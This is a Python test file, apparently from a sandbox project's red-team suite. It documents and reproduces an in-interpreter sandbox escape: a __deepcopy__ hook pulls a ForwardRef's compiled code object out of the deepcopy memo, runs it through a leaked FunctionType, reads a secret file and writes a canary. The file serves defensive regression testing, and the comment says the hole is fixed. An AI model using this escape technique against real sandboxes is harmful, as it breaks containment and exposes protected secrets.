# mypy: ignore-errors
# Technique: `copy.deepcopy` (reached through `dataclasses.asdict`) hands a plugin
# `__deepcopy__` hook the copy's `memo`, which holds the copies (and originals) of the
# state of every object copied so far, foreign ones included. A `typing.ForwardRef` made
# with the plugin's hook as its `module` copies its slots first, so the hook found
# `__forward_code__`: a code object compiled from the plugin's own text with no AST check.
# With `dataclasses.FunctionType` (the real `types.FunctionType`, a facade name on
# 3.11-3.12) that code ran with dunder access and reached the real builtins. Found in the
# sixth red-team pass of the in-interpreter layer; was a real in-interpreter escape
# (3.11-3.12; a code object on 3.13) before the fix.
import dataclasses
import typing

from suaveplan import fs

U = "_" * 2
found = []


class Hook:
    def __deepcopy__(self, memo):
        for value in list(memo.values()):
            if isinstance(value, dict):
                for key in value:
                    if key == U + "forward_code" + U:
                        found.append(value[key])
        return self


@dataclasses.dataclass
class Box:
    v: object


def attack(secret_path, canary_path):
    forward_ref = type(typing.get_args(typing.List["int"])[0])  # noqa: UP006
    text = "fs.read_text." + U + "globals" + U + "['_b']"
    ref = forward_ref(text, module=Hook())
    try:
        dataclasses.asdict(Box(ref))
    except Exception as exc:
        if not found:
            return repr(exc)[:200]
    if not found:
        return "no code object"
    print("SANDBOX-" + "ESCAPED")
    make = getattr(dataclasses, "FunctionType", None)
    if make is None:
        return repr(found[0])[:80]
    real = make(found[0], {"fs": fs})()
    out = [real.open(secret_path).read()]
    real.open(canary_path, "w").write("x")
    return out
